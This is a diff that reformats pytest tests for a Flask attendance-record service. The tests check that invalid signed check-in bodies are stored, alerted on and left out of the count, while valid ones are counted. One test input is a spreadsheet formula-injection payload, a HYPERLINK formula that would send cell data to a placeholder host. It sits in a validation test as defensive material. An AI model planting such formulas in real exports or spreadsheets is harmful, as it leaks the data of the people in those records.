@@ -22,14 +22,26 @@ HEAD_A, STAFF_A, HEAD_B, STAFF_A2 = nip(1), nip(2), nip(3), nip(4)
 
 @pytest.fixture
 def roster(app: Flask, clock: Clock) -> None:
-    install(app, [person(1, UNIT_A, "kec-alalak", "head"), person(2, UNIT_A, "kec-alalak"),
-                  person(3, UNIT_B, "kec-alalak", "head"), person(4, UNIT_A, "kec-alalak")],
-            clock.now)
+    install(
+        app,
+        [
+            person(1, UNIT_A, "kec-alalak", "head"),
+            person(2, UNIT_A, "kec-alalak"),
+            person(3, UNIT_B, "kec-alalak", "head"),
+            person(4, UNIT_A, "kec-alalak"),
+        ],
+        clock.now,
+    )
 
 
 def _app_body(**changes: Any) -> dict[str, Any]:
-    body: dict[str, Any] = {"nip": STAFF_A, "kind": "in", "method": "app",
-                            "device": "dev-12345678", "client_ts": None}
+    body: dict[str, Any] = {
+        "nip": STAFF_A,
+        "kind": "in",
+        "method": "app",
+        "device": "dev-12345678",
+        "client_ts": None,
+    }
     body.update(changes)
     return {k: v for k, v in body.items() if v is not _DROP}
 
@@ -40,8 +52,11 @@ _MANUAL = {"method": "manual", "witness": HEAD_A, "reason": "HP rusak, hadir ape
 LIES = [
     ("teleport", _app_body(method="teleport"), "method must be one of"),
     ("method-missing", _app_body(method=_DROP), "method must be one of"),
-    ("formula-nip", _app_body(nip='=HYPERLINK("http://x.example/?"&A1,"klik")'),
-     "nip: NIP must be exactly 18 digits"),
+    (
+        "formula-nip",
+        _app_body(nip='=HYPERLINK("http://x.example/?"&A1,"klik")'),
+        "nip: NIP must be exactly 18 digits",
+    ),
     ("nip-number", _app_body(nip=1985010120), "nip: NIP must be exactly 18 digits"),
     ("nip-bad-date", _app_body(nip="198513012010011001"), "birth date"),
     ("kind-sideways", _app_body(kind="sideways"), "kind must be in or out"),
@@ -66,8 +81,16 @@ LIES = [
 
 @pytest.mark.parametrize(("name", "body", "reason"), LIES, ids=[lie[0] for lie in LIES])
 def test_a_signed_lie_is_kept_not_counted_and_alerted(
-        name: str, body: dict[str, Any], reason: str, client: FlaskClient, node: FakeNode,
-        store: SqliteStore, clock: Clock, roster: None, viewer_token: str) -> None:
+    name: str,
+    body: dict[str, Any],
+    reason: str,
+    client: FlaskClient,
+    node: FakeNode,
+    store: SqliteStore,
+    clock: Clock,
+    roster: None,
+    viewer_token: str,
+) -> None:
     clock.now = at(DAY, "07:00")
     assert node.push(client).status_code == 200
     lie = node.append("checkin", body, ts=at(DAY, "07:10"))
@@ -84,8 +107,9 @@ def test_a_signed_lie_is_kept_not_counted_and_alerted(
     alerts = [a for a in store.alerts("kec-alalak") if a.kind == "invalid-body"]
     assert len(alerts) == 1 and f"seq {lie['seq']}" in alerts[0].message
 
-    rows = client.get(f"/api/v1/attendance?date={DAY}",
-                      headers={"Authorization": f"Bearer {viewer_token}"}).get_json()
+    rows = client.get(
+        f"/api/v1/attendance?date={DAY}", headers={"Authorization": f"Bearer {viewer_token}"}
+    ).get_json()
     refs = [ref for row in rows["employees"] for ref in row["records"]]
     listed = [ref for ref in refs if ref["seq"] == lie["seq"]]
     # Listed under its NIP when the NIP is a string at all (a formula NIP too).
@@ -98,18 +122,30 @@ def test_a_signed_lie_is_kept_not_counted_and_alerted(
     assert staff["first_in"] == "2026-10-05T07:20:00.000+08:00"
 
 
-@pytest.mark.parametrize("body", [
-    _app_body(),
-    _app_body(kind="out", client_ts="2026-10-04T23:09:58.120Z",
-              geo={"lat": "-2.9987", "lon": "114.7534", "acc_m": "12"}),
-    _app_body(method="kiosk", presence="K1.abc"),
-    _app_body(method="witness", witness=HEAD_B),
-    _app_body(**_MANUAL),
-    _app_body(extra_field_of_a_later_version="x"),
-], ids=["app", "out-geo", "kiosk", "witness", "manual", "unknown-member"])
+@pytest.mark.parametrize(
+    "body",
+    [
+        _app_body(),
+        _app_body(
+            kind="out",
+            client_ts="2026-10-04T23:09:58.120Z",
+            geo={"lat": "-2.9987", "lon": "114.7534", "acc_m": "12"},
+        ),
+        _app_body(method="kiosk", presence="K1.abc"),
+        _app_body(method="witness", witness=HEAD_B),
+        _app_body(**_MANUAL),
+        _app_body(extra_field_of_a_later_version="x"),
+    ],
+    ids=["app", "out-geo", "kiosk", "witness", "manual", "unknown-member"],
+)
 def test_what_the_node_software_makes_is_counted(
-        body: dict[str, Any], client: FlaskClient, node: FakeNode, store: SqliteStore,
-        clock: Clock, roster: None) -> None:
+    body: dict[str, Any],
+    client: FlaskClient,
+    node: FakeNode,
+    store: SqliteStore,
+    clock: Clock,
+    roster: None,
+) -> None:
     clock.now = at(DAY, "07:00")
     assert node.push(client).status_code == 200
     record = node.append("checkin", body, ts=at(DAY, "07:10"))
